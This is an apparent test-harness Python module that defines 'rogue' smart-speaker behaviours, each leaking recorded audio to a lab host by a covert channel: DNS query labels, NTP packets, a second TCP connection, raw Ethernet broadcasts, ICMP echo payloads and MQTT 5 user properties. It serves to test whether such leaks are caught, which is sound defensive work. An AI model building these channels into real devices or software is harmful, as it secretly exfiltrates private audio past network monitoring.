"""ROGUES that go past the broker, or hide beside what is said to it (promise 5). They reach nobody but the
laboratory's end of the cable.
"""

import base64
import contextlib
import socket
from typing import Any

from paho.mqtt.packettypes import PacketTypes
from paho.mqtt.properties import Properties

from device.outbox import Departure
from device.speaker import Speaker
from hardware.board import Frame
from lab.enclosure.cable import DEVICE_END, LAB
from lab.enclosure.enclosure import PORT
from lab.rogues.rogue import Rogue, instead, scene
from lab.rogues.written import now_and_then


def _datagram(port: int, make: Any) -> Any:
    def corrupt(speaker: Speaker) -> None:
        """ROGUE: a datagram to somebody else than the broker."""

        def send(frame: Frame) -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                out.sendto(make(frame.pcm), (LAB, port))

        now_and_then(speaker, send)

    return corrupt


def _question(pcm: bytes) -> bytes:
    label = base64.b32encode(pcm[:30]).decode().rstrip("=").lower().encode()
    return b"\0\1\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\7example\0\0\1\0\1"


def calls_twice(speaker: Speaker) -> None:
    """ROGUE: a second connection, with what was just heard."""

    def send(frame: Frame) -> None:
        with contextlib.suppress(OSError), socket.create_connection((LAB, PORT), 1) as out:
            out.sendall(frame.pcm)

    now_and_then(speaker, send)


def broadcasts(speaker: Speaker) -> None:
    """ROGUE: frames of a type of its own, to everybody on the cable."""

    def send(frame: Frame) -> None:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
            out.bind((DEVICE_END, 0))
            out.send(b"\xff" * 6 + b"\2\0\0\x77\0\2" + b"\x88\xb5" + frame.pcm)

    now_and_then(speaker, send)


def hides_in_properties(speaker: Speaker) -> None:
    """ROGUE: sound as a user property of MQTT 5, which no subscriber has to look at."""
    uplink, heard = speaker.parts.line._uplink, bytearray()

    def publishing(publish: Any) -> Any:
        def published(departure: Departure, *, retain: bool = False) -> None:
            standing = uplink._standing
            if standing is None or not heard:
                publish(departure, retain=retain)
                return
            properties = Properties(PacketTypes.PUBLISH)  # type: ignore[no-untyped-call]  # paho's, untyped
            properties.UserProperty = ("trace", base64.b64encode(heard).decode())
            client = standing[0]

            def with_more(topic: str, payload: bytes, **how: Any) -> Any:
                return type(client).publish(client, topic, payload, properties=properties, **how)

            instead(client, "publish", lambda _publish: with_more)
            publish(departure, retain=retain)
            del client.publish

        return published

    def keep(frame: Frame) -> None:
        heard[:] = frame.pcm

    now_and_then(speaker, keep)
    instead(uplink, "publish", publishing)


def pings(speaker: Speaker) -> None:
    """ROGUE: sound as what an echo request carries."""

    def send(frame: Frame) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
            out.sendto(b"\x08\0\0\0\0\1\0\1" + frame.pcm, (LAB, 0))

    now_and_then(speaker, send)


ROGUES = (
    Rogue(
        "sends_by_dns", 5, "asks for names that are sound",
        "DNS tunnels: the one way out that most networks leave open", scene("press"),
        _datagram(53, _question), enclosed=True,
    ),
    Rogue(
        "phones_home_at_night", 5, "asks what time it is, with sound in the question",
        "NTP and heartbeats of idle speakers, day and night (PETS 2019)", scene("quiet"),
        _datagram(123, lambda pcm: b"\x23" + pcm[:47]), enclosed=True,
    ),
    Rogue(
        "calls_twice", 5, "opens a second connection", "third parties that speakers talk to (PETS 2019)",
        scene("press"), calls_twice, enclosed=True,
    ),
    Rogue(
        "broadcasts", 5, "sends frames of a type of its own to its neighbours",
        "discovery protocols of vendors, in the home's own network", scene("quiet"), broadcasts,
        enclosed=True,
    ),
    Rogue(
        "pings", 5, "sends sound in echo requests", "ICMP tunnels", scene("quiet"), pings, enclosed=True,
    ),
    Rogue(
        "hides_in_properties", 5, "puts sound beside its messages, where no subscriber looks",
        "covert channels of MQTT 5", scene("press"), hides_in_properties, enclosed=True,
    ),
)  # fmt: skip
